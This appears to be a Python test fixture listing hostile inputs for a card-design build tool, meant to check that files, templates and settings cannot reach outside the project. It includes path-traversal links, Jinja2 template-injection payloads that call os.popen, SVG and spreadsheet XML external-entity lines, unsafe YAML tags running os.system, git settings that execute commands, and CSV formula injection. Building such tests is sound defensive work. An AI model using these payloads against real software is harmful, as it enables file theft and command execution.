"""What attempts to get out of a project are written with: names, links, templates, drawings, texts, settings."""

READ = {
    "card_data": "../neighbour/card_data",
    "card_data/soup/game.yaml": "../../../neighbour/folder/game.yaml",
    "card_data/soup/food.yaml": "../../../neighbour/secret.yaml",
    "card_data/soup/more.yaml": "../../../neighbour/secret.yaml",
    "card_data/soup/deck.csv": "../../../neighbour/secret.csv",
    "card_data/soup/rules.yaml": "../../../neighbour/secret.txt",
    "card_data/soup/claims.yaml": "../../../neighbour/secret.txt",
    "card_data/soup/approved.yaml": "../../../neighbour/secret.txt",
    "card_data/soup/i18n/fr": "../../../../neighbour/folder",
    "card_data/soup/i18n/fr/food.yaml": "../../../../../neighbour/secret.txt",
    "card_data/soup/art": "../../../neighbour/folder",
    "card_data/soup/art/leek.svg": "../../../../neighbour/secret.svg",
    "card_data/soup/art/leek.png": "../../../../neighbour/secret.png",
    "card_data/soup/art/placement.yaml": "../../../../neighbour/secret.txt",
    "card_data/soup/art/credits.yaml": "../../../../neighbour/secret.txt",
    "templates": "../neighbour/templates",
    "templates/soup": "../../neighbour/folder",
    "templates/soup/food.svg.j2": "../../../neighbour/secret.svg.j2",
    "templates/soup/icons": "../../../neighbour/folder",
    "templates/soup/icons/pea.svg": "../../../../neighbour/secret.svg",
    "fonts": "../neighbour/folder",
    "fonts/secret.ttf": "../../neighbour/secret.ttf",
    "releases": "../neighbour/folder",
    "releases/v1/soup": "../../../neighbour/folder",
    "releases/v1/soup/manifest.json": "../../../../neighbour/folder/manifest.json",
    "snapshots/soup": "../../neighbour/folder",
    "snapshots/soup/manifest.json": "../../../neighbour/folder/manifest.json",
    "v1": "../neighbour/folder",
    "HEAD": "../neighbour/folder",
    "jobs.csv": "../neighbour/secret.csv",
}
"""A name in the project, and where a link of that name leads."""


WRITTEN = (
    "output",
    "output/soup",
    "output/soup/svg",
    "output/soup/manifest.json",
    "output/soup/a4/print.pdf",
    "output/soup/rules.html",
    "output/soup/export",
    "output/soup/art-brief",
    "output/soup/stats",
    "output/batch",
    "output/batch/batch-report.csv",
    "output/calibration-a4.pdf",
    "releases",
    "releases/v2/soup",
    "snapshots/soup",
    "snapshots/soup/faces",
    "schemas",
    "card_data/soup/approved.yaml",
    "card_data/soup/i18n/de",
    "card_data/soup/art/replaced",
    "card_data/soup/art/credits.yaml",
)
"""What commands write."""


NAMES = {
    "parent": "../../../neighbour/secret{}",
    "absolute": "@NEIGHBOUR/secret{}",
    "drive": "C:\\neighbour\\secret{}",
    "file address": "file://@NEIGHBOUR/secret{}",
    "web address": "@URL/secret{}",
    "null byte": "leek\\0../../../neighbour/secret{}",
}
"""A name that a file may give in the place of that of a file beside it."""


TEMPLATE = {
    "include, parent": '{% include "../../../neighbour/secret.svg.j2" %}',
    "include of data": '{% include "../card_data/soup/game.yaml" %}',
    "import of a module": '{% import "os" as os %}{{ os.environ }}',
    "subclasses, filter": '{{ ""|attr("__class__")|attr("__base__")|attr("__subclasses__")() }}',
    "attr of map": '{{ [""]|map(attribute="__class__")|list }}',
    "globals of a macro": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}{{ m._func.__globals__ }}",
    "self and its environment": "{{ self._TemplateReference__context.environment.loader.searchpath }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('touch @RAN').read() }}",
    "format kept for later": "{% set f = '{0.__class__}'.format %}{{ f(face) }}",
    "import function": "{{ __import__('os').system('touch @RAN') }}{{ __builtins__ }}",
    "open": "{{ open('@NEIGHBOUR/secret.txt').read() }}",
    "autoescape off": "{% autoescape false %}{{ \"<image href='@URL/a.png'/>\" }}{% endautoescape %}",
    "safe file": '{{ \'<image width="9" height="9" href="file://@NEIGHBOUR/secret.png"/>\'|safe }}',
    "url of an image": '<image width="9" height="9" href="@URL/a.png"/>',
    "picture, parent": '{{ picture("../../../../neighbour/secret", (0, 0, 9, 9)) }}',
    "picture, address": '{{ picture("@URL/a.png", (0, 0, 9, 9)) }}',
    "icon, parent": '{{ icon("../../../neighbour/secret", 9, 9, 9) }}{{ icon("@NEIGHBOUR/secret", 9, 9, 9) }}',
    "font family of a file": '<text x="9" y="9" font-family="url(@NEIGHBOUR/secret.ttf)">A</text>',
}
"""What a template of a card has in it."""


SVG = {
    "image, file": '<image width="9" height="9" href="file://@NEIGHBOUR/secret.png"/>',
    "image, web": '<image width="9" height="9" href="@URL/a.png"/>',
    "image, base": '<g xml:base="file://@NEIGHBOUR/"><image width="9" height="9" href="secret.png"/></g>',
    "image, drawing in data": '<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22@URL/a.png%22/%3E%3C/svg%3E"/>',
    "use, web": '<use xlink:href="@URL/a.svg#a"/>',
    "feImage": '<filter id="f"><feImage href="@NEIGHBOUR/secret.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    "style, image-set": '<rect width="9" height="9" style="mask:image-set(\'@URL/a.png\' 1x)"/>',
    "style sheet, import": '<style>@import "@NEIGHBOUR/secret.css"; @import url(@URL/a.css);</style><rect width="9" height="9"/>',
    "style sheet, font-face": '<style>@font-face{font-family:S;src:url(@NEIGHBOUR/secret.ttf)}</style><text font-family="S">A</text>',
    "iframe": '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://@NEIGHBOUR/secret.txt"/></foreignObject>',
    "script": '<script>open("@RAN")</script><rect width="9" height="9" onclick="1"/>',
    "handler": '<rect width="9" height="9" onload="1" onmouseover="1"/>',
    "a link that runs": '<a href="javascript:1"><rect width="9" height="9"/></a>',
    "text path": '<text><textPath href="@NEIGHBOUR/secret.svg#a">A</textPath></text>',
    "inclusion": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@NEIGHBOUR/secret.txt" parse="text"/>',
    "comment that ends in HTML": '<!--><img src=@URL onerror=1>--><rect width="9" height="9"/>',
    "character data": "<text><![CDATA[</text></svg><img src=@URL onerror=1>]]></text>",
}
"""What is inside a drawing."""


WHOLE_SVG = {
    "entity, file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file://@NEIGHBOUR/secret.txt">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&a;</text></svg>',
    "document type, web": '<!DOCTYPE svg SYSTEM "@URL/a.dtd"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>',
    "style sheet instruction": '<?xml-stylesheet href="@NEIGHBOUR/secret.css" type="text/css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>',
    "packed, with a name": "\x1f\x8b\x08\x08@NEIGHBOUR",
}
"""Whole drawings."""


TEXTS = {
    "template in a text": "{{ ''.__class__.__mro__ }} {{ open('@NEIGHBOUR/secret.txt') }}",
    "statement in a text": "{% include '../secret.svg.j2' %}",
    "letters of markup": "<script>1</script><img src=@URL onerror=1> ![x](@URL/a.png) [x](javascript:1)",
    "typst": '#read(\\"@NEIGHBOUR/secret.txt\\") #image(\\"@NEIGHBOUR/secret.png\\") $x$',
}


CLAIMS = {
    "attribute": "''.__class__ == 1",
    "globals of a function": "count.__globals__ == 1",
    "open": "open('@NEIGHBOUR/secret.txt').read() == ''",
    "getattr": "getattr(food, '__class__') == 1",
}


YAML = {
    "python object": "!!python/object/apply:os.system ['touch @RAN']",
    "python name": "!!python/name:os.environ",
    "python new": "!!python/object/new:type {args: [x, [], {}]}",
    "file tag": "!include ../../../neighbour/secret.yaml",
    "custom tag": "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch @RAN']",
    "anchors": "&a [*a, *a]",
}


HEADER = {
    "engine": "engine: ../../../neighbour/secret",
    "engine, own module": "engine: soup.engine",
    "font file": 'fonts: {title: "@NEIGHBOUR/secret.ttf", body: "../neighbour/secret.ttf"}',
    "language": "language: ../../neighbour",
    "sources": 'sources: ["@NEIGHBOUR/secret.txt", "@URL/x"]',
    "colour": 'palette: {leaf: "url(@URL/a.svg#x)"}',
    "colour of a theme": 'themes: {x: {palette: {leaf: "red;background:url(@URL)"}, include: ../neighbour/secret.yaml}}',
    "theme with a path": 'themes: {"../../../neighbour/written": {palette: {leaf: "#000000"}}}',
    "credits": 'credits: "<script src=@URL></script> {{ self }} @NEIGHBOUR"',
    "styles": 'styles: {x: {font: "@NEIGHBOUR/secret.ttf"}}',
    "unknown keys": "extends: ../../../neighbour/secret.yaml\ninclude: [../../../neighbour/secret.yaml]\nplugins: [os]",
}


GIT_SETTINGS = {
    "watcher of files": "[core]\n\tfsmonitor = touch @RAN\n",
    "pager": '[core]\n\tpager = touch @RAN\n[pager]\n\tdiff = "touch @RAN"\n\tarchive = true\n',
    "editor": "[core]\n\teditor = touch @RAN\n\tsshCommand = touch @RAN\n\taskPass = touch @RAN\n",
    "alias": '[alias]\n\trev-parse = "!touch @RAN"\n\tarchive = "!touch @RAN"\n\tls-tree = "!touch @RAN"\n',
    "filter": '[filter "x"]\n\tclean = touch @RAN\n\tsmudge = touch @RAN\n\tprocess = touch @RAN\n\trequired = true\n',
    "text conversion": '[diff "x"]\n\ttextconv = touch @RAN\n\tcommand = touch @RAN\n[diff]\n\texternal = touch @RAN\n',
    "archive format": '[tar "tar"]\n\tcommand = touch @RAN\n[tar "x"]\n\tcommand = touch @RAN\n',
    "promised objects": '[extensions]\n\tpartialClone = o\n[remote "o"]\n\turl = ext::touch @RAN\n\tpromisor = true\n',
    "file included": "[include]\n\tpath = @NEIGHBOUR/secret.txt\n",
    "folder of the work": "[core]\n\tworktree = @NEIGHBOUR\n",
    "attributes elsewhere": "[core]\n\tattributesFile = @NEIGHBOUR/secret\n\texcludesFile = @NEIGHBOUR/secret\n",
}


PRINTERS = {
    "python object": "!!python/object/apply:os.system ['touch @RAN']\n",
    "numbers that there are not": "front: [.nan, .inf]\nback: [1, 1]\nright: .nan\ndown: -.inf\nturn: .inf\n",
    "a number of thousands of digits": "front: [1, 1]\nback: [1, 1]\nright: "
    + "9" * 5000
    + "\ndown: 0\nturn: 0\n",
    "nested": "[" * 3000 + "\n",
    "repeated": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nfront: *c\n",
    "margin": "front: [1, 1]\nback: [1, 1]\nright: 0\ndown: 0\nturn: 0\nmargin: [1]\nsideways: [up]\n",
}


TABLES = {
    "names": "name\n../../../neighbour/written\n",
    "columns": "name,game.engine,game.fonts,food/leek.art\na,../x,@NEIGHBOUR/secret.ttf,../../../../neighbour/secret\n",
    "formulas": "name,game.title\na,=cmd|'/c touch @RAN'!A0\n",
    "language": "name,language\na,../../../../neighbour\n",
}


FOREIGN_OBJECTS = {
    "objects/info/alternates": "@NEIGHBOUR/.git/objects\n",
    "commondir": "@NEIGHBOUR/.git\n",
    "objects": None,
    "objects/pack": None,
}
"""What in a .git folder may lead to objects elsewhere: files with a path, and links."""


WORKBOOK_PARTS = {
    "entity": ("xl/worksheets/sheet1.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file://@NEIGHBOUR/secret.txt">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>'),
    "document type": ("xl/sharedStrings.xml", '<!DOCTYPE x SYSTEM "@URL/a.dtd"><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
    "external link": ("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'),
    "relation to a file": ("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="file://@NEIGHBOUR/secret.xlsx" TargetMode="External"/></Relationships>'),
    "name that leads out": ("../../../../neighbour/written.txt", "x"),
}  # fmt: skip
